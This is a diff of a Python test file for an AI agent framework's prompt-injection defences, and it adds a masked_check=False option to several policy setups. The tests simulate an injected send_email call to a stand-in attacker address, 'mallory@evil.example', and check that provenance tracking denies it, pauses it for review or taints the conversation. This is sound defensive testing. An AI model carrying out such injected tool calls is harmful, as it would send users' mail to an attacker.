@@ -91,7 +91,7 @@ QUESTION = "Read my inbox and tell bob@corp.example when the meeting is."
 def test_an_injected_recipient_is_denied_and_the_model_is_told() -> None:
     SENT.clear()
     attack = ("send_email", {"to": "mallory@evil.example", "subject": "hi", "body": "x"})
-    result, events, seen = agent_run([attack], Policy(GRANTS), QUESTION)
+    result, events, seen = agent_run([attack], Policy(GRANTS, masked_check=False), QUESTION)
     assert result.status == "succeeded" and SENT == []  # never executed
     contained = [e.data for e in events if e.kind == "policy_decided" and "provenance" in e.data]
     assert len(contained) == 1 and contained[0]["action"] == "deny"
@@ -121,7 +121,8 @@ def test_a_recipient_the_user_named_may_get_an_untrusted_body_where_the_rule_all
                 untrusted_fields=frozenset({"subject", "body"}),
             ),
             *GRANTS,
-        )
+        ),
+        masked_check=False,
     )
     reply = ("send_email", {"to": "bob@corp.example", "subject": "Meeting", "body": "Friday"})
     attack = ("send_email", {"to": "mallory@evil.example", "subject": "hi", "body": "x"})
@@ -160,7 +161,9 @@ def test_values_count_as_trusted_only_as_whole_words_of_trusted_text() -> None:
 def test_review_pauses_the_run_with_a_grant_for_the_untrusted_call() -> None:
     SENT.clear()
     attack = ("send_email", {"to": "mallory@evil.example", "subject": "hi", "body": "x"})
-    policy = Policy((Rule("mail", "allow", "send_email", untrusted="review"), *GRANTS))
+    policy = Policy(
+        (Rule("mail", "allow", "send_email", untrusted="review"), *GRANTS), masked_check=False
+    )
     result, events, _ = agent_run([attack], policy, QUESTION)
     assert result.status == "waiting" and SENT == []
     (requested,) = [e.data for e in events if e.kind == "review_requested"]
@@ -170,7 +173,7 @@ def test_review_pauses_the_run_with_a_grant_for_the_untrusted_call() -> None:
 def test_read_only_tools_take_untrusted_arguments() -> None:
     SENT.clear()
     lookup = ("search_contacts", {"name": "mallory"})
-    result, events, seen = agent_run([lookup], Policy(GRANTS), QUESTION)
+    result, events, seen = agent_run([lookup], Policy(GRANTS, masked_check=False), QUESTION)
     assert result.status == "succeeded"
     assert "no such contact" in unmark(seen[2].messages[-1].text)
     (decided,) = [e.data for e in events if e.kind == "policy_decided" and "provenance" in e.data]
@@ -190,7 +193,7 @@ def test_untrusted_context_documents_are_spotlighted_and_taint_the_conversation(
         return "ok"
 
     hub.add(FunctionModel(model, name="m"), ModelSpec("m", "test"))
-    registry = ToolRegistry([send_email], Policy(GRANTS))
+    registry = ToolRegistry([send_email], Policy(GRANTS, masked_check=False))
 
     @step
     async def answer(q: str, ctx: Context) -> str:
@@ -261,7 +264,8 @@ def test_untrusted_output_of_an_earlier_step_stays_untrusted_in_a_later_prompt()
         (
             Rule("mail", "allow", "send_email", untrusted_fields=frozenset({"subject", "body"})),
             *GRANTS,
-        )
+        ),
+        masked_check=False,
     )
     registry = ToolRegistry([read_inbox, send_email], policy)
 
@@ -410,7 +414,7 @@ def test_a_model_rule_keeps_a_privileged_model_from_reading_untrusted_content() 
     it may not read it; the run fails before the poisoned conversation is sent."""
     SENT.clear()
     rule = Rule("the planner reads no untrusted text", "allow", model="m", untrusted="deny")
-    result, events, seen = agent_run([], Policy((rule, *GRANTS)), QUESTION)
+    result, events, seen = agent_run([], Policy((rule, *GRANTS), masked_check=False), QUESTION)
     assert result.status == "failed" and "may not read untrusted content" in (result.error or "")
     assert len(seen) == 1  # the inbox was read; the model never saw it
     (decided,) = [e.data for e in events if e.kind == "policy_decided" and "provenance" in e.data]
@@ -436,7 +440,7 @@ def test_a_models_answer_to_a_prompt_holding_untrusted_text_is_untrusted() -> No
     hub = ModelHub()
     hub.add(FunctionModel(model, name="m"), ModelSpec("m", "test"))
     rule = Rule("mail", "allow", "send_email", untrusted_fields=frozenset({"subject", "body"}))
-    registry = ToolRegistry([read_inbox, send_email], Policy((rule, *GRANTS)))
+    registry = ToolRegistry([read_inbox, send_email], Policy((rule, *GRANTS), masked_check=False))
 
     @step
     async def assistant(ctx: Context) -> str:
@@ -471,7 +475,7 @@ def test_search_hits_are_untrusted_content(tmp_path: Any) -> None:
 
     hub = ModelHub()
     hub.add(FunctionModel(model, name="m"), ModelSpec("m", "test"))
-    registry = ToolRegistry([send_email], Policy(GRANTS))
+    registry = ToolRegistry([send_email], Policy(GRANTS, masked_check=False))
 
     @step
     async def answer(ctx: Context) -> str:
